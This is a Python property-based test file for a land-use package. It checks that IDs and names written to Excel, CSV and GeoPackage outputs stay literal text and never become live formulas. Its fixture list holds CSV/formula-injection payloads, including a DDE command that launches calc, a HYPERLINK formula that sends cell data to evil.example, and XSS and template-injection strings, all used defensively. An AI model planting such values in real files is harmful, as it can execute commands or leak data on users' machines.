"""Text from the data leaves landuse exactly, never as a formula (issue 14, D4; Deliver 1, 2, 7).

Adversarial strings (template delimiters, HTML/JS, formula prefixes, tab/CR, quotes,
backslashes, NUL, RTL marks, CJK, emoji, plus arbitrary text) go into the ids, names and
text columns written by ``write_compliance`` (xlsx, csv), ``write_assessment`` (xlsx) and
``write_layers`` (GeoPackage). What each sink does with them, as documented in
``landuse._sinks``:

- Excel: every text cell is a string cell equal to the input, except that line breaks
  ``\\r\\n``/``\\r`` are stored as ``\\n``, characters XML cannot hold (C0 controls but tab and
  line breaks, U+FFFE, U+FFFF) are written as visible escapes (``\\x00``) with a
  LanduseWarning, and an empty text is an empty cell.
- CSV: read back with pandas, the input exactly, with a leading ``'`` on text starting with
  ``= + - @``, tab or CR (none with ``formula_guard=False``).
- GeoPackage: the input exactly, except NUL, written as a visible ``\\x00`` with a warning.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import warnings

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
from conftest import QD_GK, square, unavailable
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import landuse
from landuse.assessment import write_assessment
from landuse.compliance import check_new_land, write_compliance
from landuse.errors import LanduseError, LanduseWarning
from landuse.io import write_layers

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
ADVERSARIAL = [
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{#a#}b",
    "1号地块{#",
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '<img src=x onerror="alert(1)">',
    "=1+1",
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "a\r\nb",
    "a\rb",
    'say "hi"',
    "it's",
    "C:\\temp\\x.shp",
    "a\x00b",
    "\x00",
    "a\x0bb\x1b[2J",
    "\u202eabc.exe",
    "\u200fRTL",
    "青岛市即墨区宗地",
    "🏭工厂👷",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e5",
    "0601",
    " lead and trail ",
    "   ",
    "",
    "\ufffe",
    "_x0041_",
    "NULL",
]
TEXT = st.one_of(
    st.sampled_from(ADVERSARIAL),
    st.text(max_size=24),
    st.builds(lambda a, b: a + b, st.sampled_from(ADVERSARIAL), st.text(max_size=8)),
)
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_GPKG_ILLEGAL = re.compile("[\x00]")


def _visible(m: re.Match[str]) -> str:
    code = ord(m.group(0))
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def excel_expected(text: str) -> str | None:
    """What an xlsx cell holds for ``text`` (the documented rule)."""
    text = _XML_ILLEGAL.sub(_visible, re.sub("\r\n?", "\n", text))
    return text or None


def csv_expected(text: str, *, guard: bool = True) -> str:
    return "'" + text if guard and text.startswith(("=", "+", "-", "@", "\t", "\r")) else text


def run_recording(func, *args, **kwargs):
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        out = func(*args, **kwargs)
    return out, [w for w in caught if issubclass(w.category, LanduseWarning)]


def string_cells(sheet) -> list[openpyxl.cell.Cell]:
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


@pytest.fixture(scope="module")
def report():
    s = landuse.load_sample()
    return check_new_land(s.proposals.head(6), zones=s.zones, policy="qingdao-2019")


def ids(n: int):
    return st.lists(TEXT, min_size=n, max_size=n, unique=True)


SETTINGS = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


# --- write_compliance: Excel --------------------------------------------------------------


@SETTINGS
@given(proposal_ids=ids(6), projects=st.lists(TEXT, min_size=6, max_size=6))
def test_property_compliance_excel_holds_the_literal_text(
    report, tmp_path_factory, proposal_ids, projects
):
    frame = report.assign(proposal_id=proposal_ids, project=projects)
    out = tmp_path_factory.mktemp("x") / "r.xlsx"
    _, warned = run_recording(write_compliance, frame, out)
    sheet = openpyxl.load_workbook(out).worksheets[0]
    assert not [c.coordinate for c in string_cells(sheet) if c.data_type != "s"
                and isinstance(c.value, str)]  # fmt: skip
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type in ("f", "e")]
    columns = list(frame.columns.drop("geometry"))
    for name, values in (("proposal_id", proposal_ids), ("project", projects)):
        j = columns.index(name) + 1
        got = [sheet.cell(row=i + 2, column=j).value for i in range(len(values))]
        assert got == [excel_expected(v) for v in values]
    bad = any(_XML_ILLEGAL.search(v) for v in proposal_ids + projects)
    assert bool(warned) == bad
    if bad:
        assert "written as visible escapes" in str(warned[0].message)


# --- write_compliance: CSV ----------------------------------------------------------------


@SETTINGS
@given(
    proposal_ids=ids(6),
    projects=st.lists(TEXT, min_size=6, max_size=6),
    districts=st.lists(st.sampled_from(["即墨区", "=1+1", "-x"]) | TEXT, min_size=6, max_size=6),
    guard=st.booleans(),
)
def test_property_compliance_csv_reads_back_equal(
    report, tmp_path_factory, proposal_ids, projects, districts, guard
):
    frame = report.assign(proposal_id=proposal_ids, project=projects, district=districts)
    out = tmp_path_factory.mktemp("c") / "r.csv"
    write_compliance(frame, out, formula_guard=guard)
    back = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert len(back) == 6  # no value split a row
    for name, values in (("proposal_id", proposal_ids), ("project", projects)):
        j = list(frame.columns).index(name)
        assert back.iloc[:, j].tolist() == [csv_expected(v, guard=guard) for v in values]
    summary = pd.read_csv(
        out.with_name("r_summary.csv"), encoding="utf-8-sig", dtype=str, keep_default_na=False
    )
    assert set(summary.iloc[:-1, 0]) == {csv_expected(v, guard=guard) for v in districts}


# --- write_assessment: Excel --------------------------------------------------------------


@pytest.fixture(scope="module")
def assessment():
    return landuse.assess_zones(landuse.load_sample().zone_stats, year=2021, policy="qingdao-2019")


@SETTINGS
@given(data=st.data())
def test_property_assessment_excel_holds_the_literal_text(assessment, tmp_path_factory, data):
    n = len(assessment)
    zone_ids = data.draw(ids(n))
    names = data.draw(st.lists(TEXT, min_size=n, max_size=n))
    table = assessment.assign(zone_id=zone_ids, name=names)
    table = table.sort_values("rank", na_position="last", kind="mergesort")  # the sheet's order
    out = tmp_path_factory.mktemp("a") / "a.xlsx"
    _, warned = run_recording(write_assessment, table, out)
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets:
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type in ("f", "e")]
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    j_id, j_name = header.index("集聚区编号") + 1, header.index("集聚区名称") + 1
    got_ids = [sheet.cell(row=i + 2, column=j_id).value for i in range(n)]
    got_names = [sheet.cell(row=i + 2, column=j_name).value for i in range(n)]
    assert got_ids == [excel_expected(v) for v in table["zone_id"]]
    assert got_names == [excel_expected(v) for v in table["name"]]
    assert all(sheet.cell(row=i + 2, column=j_id).data_type == "s" for i in range(n)
               if got_ids[i] is not None)  # fmt: skip
    assert bool(warned) == any(_XML_ILLEGAL.search(v) for v in zone_ids + names)


# --- write_layers: GeoPackage -------------------------------------------------------------


@SETTINGS
@given(parcel_ids=ids(4), names=st.lists(TEXT, min_size=4, max_size=4), note=TEXT)
def test_property_geopackage_round_trips_exactly(tmp_path_factory, parcel_ids, names, note):
    frame = gpd.GeoDataFrame(
        {"parcel_id": parcel_ids, "enterprise": names, "note": [note] * 4},
        geometry=[square(QD_GK[0] + 200 * i, QD_GK[1]) for i in range(4)],
        crs=4549,
    )
    out = tmp_path_factory.mktemp("g") / "p.gpkg"
    _, warned = run_recording(write_layers, {"parcels": frame}, out)
    back = pyogrio.read_dataframe(out, layer="parcels")
    for column in ("parcel_id", "enterprise", "note"):
        assert back[column].tolist() == [_GPKG_ILLEGAL.sub(_visible, v) for v in frame[column]]
    assert back.geometry.geom_equals(frame.geometry.reset_index(drop=True)).all()
    assert bool(warned) == any("\x00" in v for v in [*parcel_ids, *names, note])


# --- fixed cases --------------------------------------------------------------------------


def test_review_reproductions(report, tmp_path):
    """D4 as the review found it: a live HYPERLINK in Excel, `=1+1` unquoted in CSV."""
    frame = report.assign(proposal_id=[HYPERLINK, "=1+1", "P3", "P4", "P5", "P6"])
    write_compliance(frame, tmp_path / "r.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "r.xlsx").worksheets[0]["A2"]
    assert (cell.data_type, cell.value) == ("s", HYPERLINK)
    write_compliance(frame, tmp_path / "r.csv")
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert "\n'=1+1," in text
    write_compliance(frame, tmp_path / "raw.csv", formula_guard=False)
    assert "\n=1+1," in (tmp_path / "raw.csv").read_text(encoding="utf-8-sig")


def test_write_layers_replaces_one_layer_and_keeps_the_others(tmp_path):
    """D8: writing project_bank into a GeoPackage holding parcels keeps parcels."""
    parcels = gpd.GeoDataFrame(
        {"parcel_id": ["P1", "P2"]},
        geometry=[square(*QD_GK), square(QD_GK[0] + 200, QD_GK[1])],
        crs=4549,
    )
    path = write_layers({"parcels": parcels, "bank": parcels.head(1)}, tmp_path / "p.gpkg")
    write_layers({"bank": parcels.assign(parcel_id=["B1", "B2"])}, path)
    assert [str(n) for n in pyogrio.list_layers(path)[:, 0]] == ["parcels", "bank"]
    assert pyogrio.read_dataframe(path, layer="parcels")["parcel_id"].tolist() == ["P1", "P2"]
    assert pyogrio.read_dataframe(path, layer="bank")["parcel_id"].tolist() == ["B1", "B2"]


def test_write_layers_leaves_a_file_that_is_not_a_geopackage(tmp_path):
    path = tmp_path / "notes.gpkg"
    path.write_text("my notes", encoding="utf-8")
    frame = gpd.GeoDataFrame({"a": ["x"]}, geometry=[square(*QD_GK)], crs=4549)
    with pytest.raises(LanduseError, match="exists but is not a GeoPackage"):
        write_layers({"t": frame}, path)
    assert path.read_text(encoding="utf-8") == "my notes"
    assert [p.name for p in tmp_path.iterdir()] == ["notes.gpkg"]


def test_libreoffice_does_not_evaluate_a_written_formula(report, tmp_path):
    if shutil.which("soffice") is None:
        unavailable("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    frame = report.assign(proposal_id=["=1+1", HYPERLINK, "=2*3", "P4", "P5", "P6"])
    write_compliance(frame, tmp_path / "r.xlsx")
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "csv", "--outdir", str(tmp_path),
         str(tmp_path / "r.xlsx")],
        check=True, capture_output=True, timeout=300,
        env={**os.environ, "HOME": str(tmp_path)},  # a profile of its own
    )  # fmt: skip
    back = pd.read_csv(tmp_path / "r.csv", dtype=str, keep_default_na=False)
    assert back.iloc[:3, 0].tolist() == ["=1+1", HYPERLINK, "=2*3"]  # not 2, a link, 6
